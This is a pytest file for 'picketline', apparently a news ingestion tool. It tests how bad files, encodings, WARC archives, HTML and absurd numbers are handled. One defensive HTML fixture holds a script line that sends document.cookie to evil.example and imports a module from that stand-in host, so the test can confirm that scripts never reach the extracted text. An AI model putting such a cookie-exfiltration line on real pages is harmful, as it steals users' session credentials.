"""Bad input, through the reader (``read_paths``), the pipeline and the real ``ingest`` command.

Every class of bad input the web can serve (empty, binary, huge, wrongly or mixed encoded,
malformed JSON, truncated archives, hostile or absurdly nested HTML, absurd numbers and dates)
gets either a clear per-file error naming the file and the reason, or is read correctly; the
batch goes on, the summary counts what was skipped, and nothing stored before is lost.
Fixtures are written here into ``tmp_path`` (the big ones generated, never committed).
"""
from __future__ import annotations

import json
import os
import sqlite3
import subprocess
import sys
import textwrap
import time
import tracemalloc
from io import BytesIO
from pathlib import Path

import pytest
from typer.testing import CliRunner

from picketline.cli import app
from picketline.ingest import read_paths
from picketline.model import Article, IngestError
from picketline.store import Store
from support import cli

MB = 1_000_000
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x02\x00\x00\x00\x01\x80\x08\x06" * 50

STRIKE = ("About 640 sanitation workers represented by the Municipal Employees Union Local 7 "
          "walked off the job on Monday at the city of Harbor Point, saying pay has not kept "
          "up with rents. Picket lines went up at both depots before dawn.")
LOCKOUT = ("Kettle Creek Mills locked out 210 production workers on Wednesday after they "
           "rejected a contract that froze pensions, the Grain Millers union said.")
PARADE = "The town parade was moved to Saturday because of rain, organisers said."


# --- helpers ------------------------------------------------------------------------------
def seed(folder: Path, stem: str, body: str, date: str | None = None, title: str = "x") -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    p = folder / f"{stem}.txt"
    p.write_text((f"date {date} {title}\n\n" if date else "") + body + "\n", encoding="utf-8")
    return p


def read_all(*paths: Path, **kw) -> list[Article | IngestError]:
    return list(read_paths(list(paths), **kw))


def only_error(items: list, path: Path) -> IngestError:
    assert len(items) == 1 and isinstance(items[0], IngestError), items
    assert items[0].path == str(path)
    assert items[0].reason
    return items[0]


def html_page(i: int) -> bytes:
    return (f"<html><head><title>Depot story {i}</title></head><body><article><p>About "
            f"{100 + i} warehouse workers walked off the job on Monday at a distribution "
            f"center, the union said. They want higher pay, and picket lines went up before "
            f"dawn on day {i} of the dispute.</p></article></body></html>").encode()


def build_warc(path: Path, n: int = 5, gz: bool = True) -> list[int]:
    """A WARC of ``n`` HTML responses written with warcio; returns each record's offset
    (and the file's end)."""
    from warcio.statusandheaders import StatusAndHeaders
    from warcio.warcwriter import WARCWriter

    offsets = []
    with open(path, "wb") as fh:
        w = WARCWriter(fh, gzip=gz)
        for i in range(n):
            offsets.append(fh.tell())
            body = html_page(i)
            hh = StatusAndHeaders("200 OK", [("Content-Type", "text/html; charset=utf-8"),
                                             ("Content-Length", str(len(body)))],
                                  protocol="HTTP/1.1")
            w.write_record(w.create_warc_record(f"https://news.example/story-{i}", "response",
                                                payload=BytesIO(body), http_headers=hh))
        offsets.append(fh.tell())
    return offsets


def urls(items) -> list[str]:
    return [a.url for a in items if isinstance(a, Article)]


# --- empty and binary files -----------------------------------------------------------------
@pytest.mark.parametrize("name,data", [
    ("empty.txt", b""), ("blank.txt", b"  \n\n\t \r\n"), ("empty.html", b""),
    ("empty.jsonl", b""), ("blank.jsonl", b"\n\n\n"), ("empty.json", b""),
    ("empty.warc.gz", b""), ("empty.warc", b""), ("empty.xml", b""),
])
def test_empty_files_are_reported(tmp_path, name, data) -> None:
    p = tmp_path / name
    p.write_bytes(data)
    err = only_error(read_all(p), p)
    assert "empty" in err.reason


@pytest.mark.parametrize("name,data", [
    ("photo.txt", PNG),
    ("noise.txt", os.urandom(5000)),
    ("noise.html", os.urandom(5000)),
    ("noise.jsonl", os.urandom(5000)),
    ("noise.json", os.urandom(5000)),
    ("nuls.txt", b"Workers walked out on Monday.\x00\x00\x00 More copy follows here.\n"),
    ("photo.xml", PNG),
])
def test_binary_files_are_reported(tmp_path, name, data) -> None:
    p = tmp_path / name
    p.write_bytes(data)
    err = only_error(read_all(p), p)
    assert any(w in err.reason for w in ("binary", "not text", "not an RSS or Atom feed"))


@pytest.mark.parametrize("name", ["noise.warc.gz", "noise.warc"])
def test_random_bytes_as_warc_are_reported(tmp_path, name) -> None:
    p = tmp_path / name
    p.write_bytes(os.urandom(20_000))
    items = read_all(p)
    assert items and all(isinstance(i, IngestError) and i.path == str(p) for i in items)
    assert len(items) <= 3  # one error for the file, not one per byte scanned


# --- encodings ----------------------------------------------------------------------------
QUOTED = "\u201cWe are ready to stay out,\u201d said a nurse \u2014 the caf\u00e9 staff joined."


@pytest.mark.parametrize("encoding,text", [
    ("cp1252", QUOTED),
    ("latin-1", "Les employ\u00e9s du caf\u00e9 \u00e0 Montr\u00e9al ont fait gr\u00e8ve, "
                "na\u00efvement, \u00bd journ\u00e9e."),
    ("utf-16", QUOTED),  # Python writes a BOM
    ("utf-8-sig", QUOTED),
])
def test_legacy_and_bom_encodings_are_decoded(tmp_path, encoding, text) -> None:
    p = tmp_path / f"enc-{encoding}.txt"
    p.write_bytes(f"date 2024-03-04 Encoded copy\n\n{text}\n".encode(encoding))
    [a] = read_all(p)
    assert isinstance(a, Article), a
    assert text in a.text and a.published == "2024-03-04" and a.title == "Encoded copy"


def test_file_mixing_utf8_and_cp1252_is_read_without_mojibake(tmp_path) -> None:
    p = tmp_path / "mixed.txt"
    p.write_bytes("The caf\u00e9 workers said \u201cno\u201d on Monday. ".encode("utf-8")
                  + "Then the na\u00efve \u201cboss\u201d replied.\n".encode("cp1252"))
    [a] = read_all(p)
    if isinstance(a, IngestError):  # refusing it, with a reason, is acceptable too
        assert a.path == str(p) and "encod" in a.reason
        return
    assert "caf\u00e9 workers said \u201cno\u201d" in a.text
    assert "na\u00efve \u201cboss\u201d" in a.text


def test_jsonl_line_in_cp1252_is_decoded_and_neighbours_read(tmp_path) -> None:
    p = tmp_path / "mixed.jsonl"
    good = json.dumps({"id": "u1", "text": "Cooks at the Lakeview caf\u00e9 struck."},
                      ensure_ascii=False).encode("utf-8")
    legacy = json.dumps({"id": "c1", "text": QUOTED}, ensure_ascii=False).encode("cp1252")
    p.write_bytes(good + b"\n" + legacy + b"\n" + good.replace(b"u1", b"u2") + b"\n")
    items = read_all(p)
    assert [i.id for i in items if isinstance(i, Article)] == ["u1", "c1", "u2"]
    assert items[1].text == QUOTED


# --- JSON ----------------------------------------------------------------------------------
def test_malformed_json_lines_mid_file_are_reported_and_the_rest_read(tmp_path) -> None:
    p = tmp_path / "feed.jsonl"
    lines = [json.dumps({"id": "a1", "text": STRIKE}), "{not json at all",
             json.dumps({"id": "a3", "title": "no text here"}), "[1, 2, 3]",
             json.dumps({"id": "a5", "text": 42}), json.dumps({"id": "a6", "text": "   "}),
             '{"id": "a7", "text": "cut off in the mid', json.dumps({"id": "a8", "text": LOCKOUT})]
    p.write_text("\n".join(lines) + "\n", encoding="utf-8")
    items = read_all(p)
    assert [i.id for i in items if isinstance(i, Article)] == ["a1", "a8"]
    errors = [i for i in items if isinstance(i, IngestError)]
    assert [e.line for e in errors] == [2, 3, 4, 5, 6, 7]
    assert all(e.path == str(p) and e.reason.startswith(f"line {e.line}:") for e in errors)
    assert "malformed JSON" in errors[0].reason and 'no "text"' in errors[1].reason
    assert "not a JSON object" in errors[2].reason and "not a string" in errors[3].reason


def test_json_file_with_a_record_without_text(tmp_path) -> None:
    p = tmp_path / "batch.json"
    p.write_text(json.dumps([{"id": "b1", "text": STRIKE}, {"id": "b2", "url": "x"},
                             {"id": "b3", "text": LOCKOUT}]), encoding="utf-8")
    items = read_all(p)
    assert [i.id for i in items if isinstance(i, Article)] == ["b1", "b3"]
    [err] = [i for i in items if isinstance(i, IngestError)]
    assert err.path == str(p) and "item 2" in err.reason and 'no "text"' in err.reason
    single = tmp_path / "single.json"
    single.write_text(json.dumps({"title": "only a title"}), encoding="utf-8")
    assert 'no "text"' in only_error(read_all(single), single).reason


def test_deeply_nested_json_file_is_reported(tmp_path) -> None:
    p = tmp_path / "deep.json"
    p.write_text("[" * 100_000 + "]" * 100_000)
    err = only_error(read_all(p), p)
    assert "nested" in err.reason or "malformed" in err.reason


def test_deeply_nested_json_line_does_not_end_the_file(tmp_path) -> None:
    p = tmp_path / "deep.jsonl"
    p.write_text(json.dumps({"id": "d1", "text": STRIKE}) + "\n" + "[" * 100_000
                 + "]" * 100_000 + "\n" + json.dumps({"id": "d3", "text": LOCKOUT}) + "\n")
    items = read_all(p)
    assert [i.id for i in items if isinstance(i, Article)] == ["d1", "d3"]
    [err] = [i for i in items if isinstance(i, IngestError)]
    assert err.line == 2 and "line 2" in err.reason


# --- WARC ----------------------------------------------------------------------------------
def test_corrupt_gzip_member_is_reported_and_later_records_read(tmp_path) -> None:
    good = tmp_path / "good.warc.gz"
    offs = build_warc(good)
    data = bytearray(good.read_bytes())
    for k in range(offs[1] + 30, offs[1] + 60):  # scramble the inside of record 2
        data[k] ^= 0xFF
    bad = tmp_path / "scrambled.warc.gz"
    bad.write_bytes(bytes(data))
    items = read_all(bad)
    assert urls(items) == [f"https://news.example/story-{i}" for i in (0, 2, 3, 4)]
    [err] = [i for i in items if isinstance(i, IngestError)]
    assert err.path == str(bad) and "record 2" in err.reason


def test_warc_cut_inside_a_payload_reports_the_truncated_record(tmp_path) -> None:
    full = tmp_path / "full.warc"
    offs = build_warc(full, gz=False)
    cut = tmp_path / "cut.warc"
    cut.write_bytes(full.read_bytes()[:offs[3] + int((offs[4] - offs[3]) * 0.85)])
    items = read_all(cut)
    assert urls(items) == [f"https://news.example/story-{i}" for i in range(3)]
    [err] = [i for i in items if isinstance(i, IngestError)]
    assert err.path == str(cut) and "record 4" in err.reason and "truncated" in err.reason


@pytest.mark.parametrize("gz", [True, False], ids=["warc.gz", "warc"])
def test_warc_cut_mid_record_reports_the_truncated_record(tmp_path, gz) -> None:
    name = "full.warc.gz" if gz else "full.warc"
    full = tmp_path / name
    offs = build_warc(full, gz=gz)
    cut = tmp_path / f"cut-{name}"
    cut.write_bytes(full.read_bytes()[:(offs[2] + offs[3]) // 2])  # halfway into record 3
    items = read_all(cut)
    assert urls(items) == ["https://news.example/story-0", "https://news.example/story-1"]
    [err] = [i for i in items if isinstance(i, IngestError)]
    assert err.path == str(cut) and "record 3" in err.reason


# --- HTML ----------------------------------------------------------------------------------
def test_scripts_and_styles_never_reach_the_text(tmp_path) -> None:
    p = tmp_path / "hostile.html"
    p.write_text(textwrap.dedent("""\
        <html><head><title>Nurses walk out</title>
        <style>p { color: red } .secret::after { content: "STYLE-TEXT" }</style>
        <script>document.write("SCRIPT-TEXT"); fetch("https://evil.example/?c=" + document.cookie)</script>
        </head><body><article>
        <p>About 300 nurses walked off the job at Mercy Valley Hospital on Monday over staffing.</p>
        <p onclick="alert('ATTR-TEXT')">The strike is expected to last three days, the union said.</p>
        <noscript>NOSCRIPT-TEXT</noscript><template>TEMPLATE-TEXT</template>
        </article><script type="module">import "https://evil.example/x.js"; // MODULE-TEXT</script>
        </body></html>"""), encoding="utf-8")
    [a] = read_all(p)
    assert isinstance(a, Article), a
    assert "About 300 nurses walked off the job" in a.text and "three days" in a.text
    for marker in ("STYLE-TEXT", "SCRIPT-TEXT", "ATTR-TEXT", "MODULE-TEXT", "evil.example",
                   "document.", "<script", "<p"):
        assert marker not in a.text


@pytest.mark.parametrize("depth", [10_000, 100_000])
def test_deeply_nested_html_does_not_crash(tmp_path, depth) -> None:
    p = tmp_path / f"nested-{depth}.html"
    p.write_text("<html><body>" + "<div>" * depth
                 + "<p>Workers at the Ridgeway plant went on strike Monday over pay.</p>"
                 + "</div>" * depth + "</body></html>", encoding="utf-8")
    t = time.perf_counter()
    [a] = read_all(p)
    assert time.perf_counter() - t < 60
    assert isinstance(a, Article), a
    assert "went on strike Monday over pay" in a.text


def test_unclosed_tags_and_malformed_feed(tmp_path) -> None:
    html = tmp_path / "unclosed.html"
    html.write_text("<html><body><div><p>Drivers for the Bayline bus company walked out on "
                    "Tuesday.<div><span><b><i>" + "<td>" * 500, encoding="utf-8")
    [a] = read_all(html)
    assert isinstance(a, Article) and "walked out on Tuesday" in a.text
    feed = tmp_path / "broken.xml"
    feed.write_text("<rss><channel><item><title>Walkout</title><description>Porters at the "
                    "Grand Plaza hotel walked out on Friday.</description></item><item><title>"
                    "unclosed", encoding="utf-8")
    items = read_all(feed)
    assert any(isinstance(i, Article) and "Porters" in i.text for i in items) or \
        (len(items) == 1 and items[0].path == str(feed))
    assert all(i.path == str(feed) for i in items)


# --- size limits --------------------------------------------------------------------------
def _write_big(path: Path, size: int, line: bytes) -> None:
    block = line * (MB // len(line) + 1)
    with open(path, "wb") as fh:
        written = 0
        while written < size:
            fh.write(block)
            written += len(block)


def test_200mb_text_file_refused_without_reading_it(tmp_path) -> None:
    p = tmp_path / "huge.txt"
    _write_big(p, 200 * MB, b"The picket line held again today in the rain and the cold.\n")
    tracemalloc.start()
    try:
        t = time.perf_counter()
        items = read_all(p)
        elapsed = time.perf_counter() - t
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    err = only_error(items, p)
    assert "over the 5 MB limit" in err.reason and "PICKETLINE_MAX_ARTICLE_BYTES" in err.reason
    assert "200 MB" in err.reason
    assert peak < 5 * MB and elapsed < 5  # refused from its size, not read


def test_200mb_text_file_through_thecli(tmp_path) -> None:
    p = tmp_path / "in" / "huge.txt"
    p.parent.mkdir()
    _write_big(p, 200 * MB, b"The picket line held again today in the rain and the cold.\n")
    seed(p.parent, "ok", STRIKE, date="2024-04-08")
    r = CliRunner().invoke(app, ["ingest", str(p.parent), "--db",
                                 f"sqlite:///{tmp_path / 'big.db'}", "--json"])
    assert r.exit_code == 1, r.output
    assert str(p) in r.stderr and "5 MB limit" in r.stderr
    report = json.loads(r.stdout)
    assert report["added"] == 1 and report["skipped"] == 1


_STREAM = """
import json, re, sys, time
from picketline.ingest import read_paths

def hwm_kb():  # this process's peak RSS (VmHWM; ru_maxrss would include the parent's)
    with open("/proc/self/status") as fh:
        return int(re.search(r"VmHWM:\\s+(\\d+)", fh.read()).group(1))

before = hwm_kb()
t = time.perf_counter(); n = errors = chars = 0
for item in read_paths([sys.argv[1]]):
    if hasattr(item, "text"):
        n += 1; chars += len(item.text)
    else:
        errors += 1
print(json.dumps({"articles": n, "errors": errors, "chars": chars,
                  "seconds": time.perf_counter() - t, "rss_before_kb": before,
                  "rss_peak_kb": hwm_kb()}))
"""


@pytest.mark.skipif(not Path("/proc/self/status").exists(), reason="reads VmHWM from /proc")
def test_200mb_jsonl_of_small_records_streams_in_bounded_memory(tmp_path) -> None:
    """A 200 MB JSON Lines file of ~2 KB records is read record by record: peak RSS of the
    reading process stays far below the file's size (measured in a fresh process)."""
    p = tmp_path / "stream.jsonl"
    pad = "The council met and discussed the library budget and road repairs. " * 28
    records = b"".join(json.dumps({"id": f"r{i}", "text": f"Item {i}. {pad}"}).encode() + b"\n"
                       for i in range(1000))
    _write_big(p, 200 * MB, records)
    size = p.stat().st_size
    per_block = records.count(b"\n")
    blocks = -(-size // len(records))  # as _write_big wrote whole blocks
    out = subprocess.run([sys.executable, "-c", _STREAM, str(p)], capture_output=True,
                         text=True, timeout=600)
    assert out.returncode == 0, out.stderr
    m = json.loads(out.stdout)
    assert m["errors"] == 0
    assert m["articles"] == size // len(records) * per_block or m["articles"] == blocks * per_block
    growth_mb = (m["rss_peak_kb"] - m["rss_before_kb"]) / 1000
    assert growth_mb < 60 and m["rss_peak_kb"] < 200_000, m  # the file is 200 MB
    print(f"\n200 MB JSONL: {m['articles']:,} records in {m['seconds']:.1f} s, "
          f"peak RSS {m['rss_peak_kb'] / 1000:.0f} MB (+{growth_mb:.1f} MB while reading)")


def test_max_bytes_option_and_environment_variable(tmp_path, monkeypatch) -> None:
    src = tmp_path / "in"
    seed(src, "small", STRIKE, date="2024-04-08")
    big = seed(src, "long", LOCKOUT + (" The talks went on." * 400), date="2024-04-09")
    jl = src / "mix.jsonl"
    jl.write_text(json.dumps({"id": "j-small", "text": PARADE}) + "\n"
                  + json.dumps({"id": "j-big", "text": "word " * 3000}) + "\n", encoding="utf-8")
    db = f"sqlite:///{tmp_path / 'lim.db'}"
    r = CliRunner().invoke(app, ["ingest", str(src), "--db", db, "--max-bytes", "4000",
                                 "--json"])
    assert r.exit_code == 1, r.output
    report = json.loads(r.stdout)
    assert report["added"] == 2 and report["skipped"] == 2
    assert str(big) in r.stderr and "4,000 bytes limit" in r.stderr
    assert f"{jl}" in r.stderr and "line 2" in r.stderr
    with Store(db) as st:
        assert {a.id for a in st.articles()} == {"small", "j-small"}

    monkeypatch.setenv("PICKETLINE_MAX_ARTICLE_BYTES", "3k")
    items = read_all(src)
    refused = [i for i in items if isinstance(i, IngestError)]
    assert {e.path for e in refused} == {str(big), str(jl)}
    assert all("3,000 bytes limit" in e.reason and "PICKETLINE_MAX_ARTICLE_BYTES" in e.reason
               for e in refused)

    monkeypatch.setenv("PICKETLINE_MAX_ARTICLE_BYTES", "banana")
    r = CliRunner().invoke(app, ["ingest", str(src), "--db", db])
    assert r.exit_code == 2 and "PICKETLINE_MAX_ARTICLE_BYTES" in r.stderr
    assert "Traceback" not in r.output


# --- a whole bad batch, after a good one ----------------------------------------------------
def bad_batch(folder: Path) -> dict[str, str]:
    """A folder of bad files (and two good new ones); returns file name -> expected reason
    fragment for each file that must be reported."""
    folder.mkdir(parents=True)
    (folder / "empty.txt").write_bytes(b"")
    (folder / "photo.txt").write_bytes(PNG)
    (folder / "noise.html").write_bytes(os.urandom(4000))
    (folder / "nuls.txt").write_bytes(b"Workers\x00 walked\x00 out\x00.")
    (folder / "broken.jsonl").write_text(
        json.dumps({"id": "jl-good", "text": LOCKOUT.replace("Kettle Creek", "Tall Pine")})
        + "\n{oops\n" + json.dumps({"id": "jl-notext"}) + "\n", encoding="utf-8")
    (folder / "deep.json").write_text("[" * 50_000 + "]" * 50_000)
    (folder / "nested.html").write_text(
        "<html><body>" + "<div>" * 10_000 + "<p>Cooks at the Harborview Inn walked out on "
        "Friday over pay.</p>" + "</div>" * 10_000 + "</body></html>", encoding="utf-8")
    seed(folder, "good-new", STRIKE.replace("Harbor Point", "Cedar Falls"), date="2024-05-01")
    (folder / "cp1252.txt").write_bytes(f"date 2024-05-02 Quotes\n\n{QUOTED}\n".encode("cp1252"))
    return {"empty.txt": "empty", "photo.txt": "binary", "noise.html": "binary",
            "nuls.txt": "binary", "broken.jsonl": "line", "deep.json": "JSON"}


def good_corpus(folder: Path) -> Path:
    seed(folder, "transit-strike", STRIKE, date="2024-04-08", title="Sanitation strike")
    seed(folder, "mill-lockout", LOCKOUT, date="2024-04-10", title="Mill lockout")
    seed(folder, "parade", PARADE, date="2024-04-11", title="Parade moved")
    return folder


def snapshot(st: Store) -> tuple[dict, dict, list]:
    arts = {a.id: (a.text, a.published) for a in st.articles(limit=None)}
    facts = {f.id: json.dumps(f.to_dict(), sort_keys=True) for f in st.facts()}
    disputes = sorted(d["id"] for d in st.disputes(limit=1000))
    return arts, facts, disputes


def test_bad_batch_after_good_one_loses_nothingcli(tmp_path) -> None:
    db = f"sqlite:///{tmp_path / 'batch.db'}"
    r = CliRunner().invoke(app, ["ingest", str(good_corpus(tmp_path / "good")), "--db", db])
    assert r.exit_code == 0, r.output
    with Store(db) as st:
        arts0, facts0, disputes0 = snapshot(st)
    assert len(arts0) == 3 and len(facts0) == 3 and disputes0

    bad = tmp_path / "bad"
    expected = bad_batch(bad)
    r = CliRunner().invoke(app, ["ingest", str(bad), "--db", db, "--json"])
    assert r.exit_code == 1, r.output
    report = json.loads(r.stdout)
    for name, why in expected.items():
        line = next((ln for ln in r.stderr.splitlines() if str(bad / name) in ln), None)
        assert line is not None, f"{name} not reported:\n{r.stderr}"
        assert why.lower() in line.lower(), line
    assert report["skipped"] == len(report["errors"]) == 7  # broken.jsonl has two bad lines
    assert {e["path"] for e in report["errors"]} == {str(bad / n) for n in expected}
    assert report["added"] == 4  # good-new, cp1252, jl-good, nested

    with Store(db) as st:
        arts1, facts1, disputes1 = snapshot(st)
        for aid, value in arts0.items():
            assert arts1[aid] == value
            assert facts1[aid] == facts0[aid]
        assert set(disputes0) <= set(disputes1)
        assert set(arts1) - set(arts0) == {"good-new", "cp1252", "jl-good", "nested"}
        assert QUOTED in st.article("cp1252").text
    con = sqlite3.connect(tmp_path / "batch.db")
    assert con.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    con.close()


def test_bad_batch_through_a_real_subprocess(tmp_path) -> None:
    db = f"sqlite:///{tmp_path / 'sub.db'}"
    env = {**os.environ, "PICKETLINE_HOME": str(tmp_path / "home")}
    env.pop("PICKETLINE_DB", None)
    p = subprocess.run(cli("ingest", str(good_corpus(tmp_path / "good")), "--db", db),
                       capture_output=True, text=True, env=env, timeout=300)
    assert p.returncode == 0, p.stderr
    bad = tmp_path / "bad"
    expected = bad_batch(bad)
    p = subprocess.run(cli("ingest", str(bad), "--db", db), capture_output=True, text=True,
                       env=env, timeout=300)
    assert p.returncode == 1, p.stderr
    assert "Traceback" not in p.stderr
    for name in expected:
        assert name in p.stderr
    assert "skipped" in p.stdout
    p = subprocess.run(cli("articles", "--db", db, "--json", "--limit", "0"),
                       capture_output=True, text=True, env=env, timeout=300)
    ids = {a["id"] for a in json.loads(p.stdout)}
    assert ids == {"transit-strike", "mill-lockout", "parade", "good-new", "cp1252",
                   "jl-good", "nested"}


# --- absurd numbers and dates in text -------------------------------------------------------
ABSURD = {
    "huge-count": "date 2024-05-06 Nurses strike\n\nAbout 999999999999 workers walked off the "
                  "job at Mercy Valley Hospital on Monday, the nurses union said.",
    "feb-30": "date 2024-05-06 Strike vote\n\nTeachers at the Lincoln Unified School District "
              "will strike on February 30, the teachers union said. The strike will last "
              "99999999999999 days.",
    "year-99999": "date 2024-05-06 Walkout\n\nDock workers walked out at the Port of Easton in "
                  "the year 99999, and the strike began on 2024-13-45 and ended 0000-00-00.",
    "percents": "date 2024-05-06 Pay fight\n\nNurses at Mercy Valley Hospital went on strike "
                "Monday. The union wants a 1e308% raise, the hospital offered -5% and later "
                "99999999999999999999% more, and inflation ran at Inf% or NaN%.",
    "words": "date 2024-05-06 Walkout\n\nNine hundred ninety nine billion billion workers "
             "walked out at Acme Foundry on Monday. -5 workers joined, and 1e308 workers "
             "marched.",
    "far-date": "date 2199-12-31 Walkout\n\nWorkers walked out yesterday and will strike "
                "again tomorrow at Acme Foundry for a 99999999-day strike; it will last "
                "3000000 weeks from December 31.",
    "tiny-date": "date 1800-01-01 Walkout\n\nWorkers walked out last week at Acme Foundry "
                 "and had struck on Monday, January 1, the union said.",
}


@pytest.mark.parametrize("key", sorted(ABSURD))
def test_absurd_numbers_and_dates_are_survived_and_not_believed(key) -> None:
    from datetime import date

    from picketline.extract import extract_article

    facts = extract_article(Article(id=key, text=ABSURD[key])).to_dict()
    json.dumps(facts)  # serialisable
    part = (facts.get("participants") or {}).get("value")
    assert part is None or 2 <= part <= 10_000_000, part  # the bound the store accepts
    for f in ("wage_demand_pct", "wage_offer_pct"):
        v = (facts.get(f) or {}).get("value")
        assert v is None or 0 <= v <= 200, (f, v)
    for f in ("start_date", "end_date"):
        v = (facts.get(f) or {}).get("value")
        if v is not None:
            date.fromisoformat(v)
            assert 1800 <= int(v[:4]) <= 2300, (f, v)


@pytest.mark.parametrize("text,bad", [
    ("Teachers at the Lincoln Unified School District will strike on March 21, the teachers "
     "union said.", 21),
    ("Teachers at the Lincoln Unified School District will strike on Feb. 30, union leaders "
     "said.", 30),
])
def test_day_of_month_is_not_a_count_of_workers(text, bad) -> None:
    from picketline.extract import extract_article

    facts = extract_article(Article(id="dom", text="date 2024-03-04 Strike\n\n" + text))
    assert facts.participants is None or facts.participants.value != bad
    # the same sentence with a real count still finds it
    facts = extract_article(Article(id="dom2", text="date 2024-03-04 Strike\n\n" + text.replace(
        "Teachers at", "About 4,100 teachers at")))
    assert facts.participants is not None and facts.participants.value == 4100


